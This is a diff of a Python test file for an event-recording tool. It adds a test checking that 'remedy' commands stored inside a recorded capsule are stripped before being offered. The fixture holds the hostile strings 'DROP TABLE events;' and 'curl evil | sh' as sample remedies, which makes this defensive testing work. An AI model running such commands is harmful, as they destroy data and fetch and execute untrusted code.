@@ -4,17 +4,27 @@ from __future__ import annotations
 
 import asyncio
 import contextlib
+from dataclasses import replace
 from datetime import timedelta
 from typing import TYPE_CHECKING, Any
 
 import pytest
 
-from esx.capsule.format import CONSUMERS, HEALTH, BadCapsule, ConsumersMoment, HealthMoment
+from esx.capsule.format import (
+    CONSUMERS,
+    DOCTOR,
+    HEALTH,
+    BadCapsule,
+    ConsumersMoment,
+    DoctorMoment,
+    HealthMoment,
+)
 from esx.capsule.opening import Recording, opened_recording
 from esx.capsule.places import parse_time
 from esx.capsule.player import Player
 from esx.capsule.reading import Capsule
 from esx.capsule.store import NotRecorded
+from esx.doctor.finding import Finding, Severity
 from esx.errors import NotAllowed
 from esx.filters import Filter
 from esx.positions import Position
@@ -216,6 +226,8 @@ async def test_its_database_is_dropped_at_the_end_and_what_a_killed_process_left
         ([line(1, created_at="infinity"), line(2, created_at="0044-03-15T12:00:00+00:00 BC")], None),
         ([line(1, created_at="1969-01-01T00:00:00.000000Z"), line(2, created_at="2999-01-01T00:00:00.000000Z")], None),
         ([line(1, data=[[1] * 5] * 5)], None),
+        ([line(1, "".join(chr(1000 + n * 7 % 5000) for n in range(6000)))], "index row"),
+        ([line(1, "s", 2**62), line(2, created_at="0001-01-01T00:00:00.000000Z")], None),
     ],
 )
 async def test_odd_events_are_shown_or_refused(
@@ -230,6 +242,15 @@ async def test_odd_events_are_shown_or_refused(
     async with recording_of(path, server18) as recording, await recording.connect() as store:
         await recording.player.jump(at(0))
         assert [event.global_seq async for event in store.read_all()] == list(range(1, len(lines) + 1))
+
+
+async def test_a_remedy_from_a_capsule_is_not_offered(server18: EmbeddedServer, tmp_path: Path) -> None:
+    bad = Finding("columns", Severity.ERROR, "it is bad", ("DROP TABLE events;", "curl evil | sh"))
+    path = make(tmp_path / "x.esx", [line(1)], [moment(0, 1)], [(DOCTOR, DoctorMoment(BEGUN, (bad,)))])
+    async with recording_of(path, server18) as recording, await recording.connect() as store:
+        assert await store.doctor() == [replace(bad, remedy=())]
+        with pytest.raises(NotRecorded):
+            await store.conflicts()
 
 
 async def test_a_large_slice_is_shown_whole(server18: EmbeddedServer, tmp_path: Path) -> None:
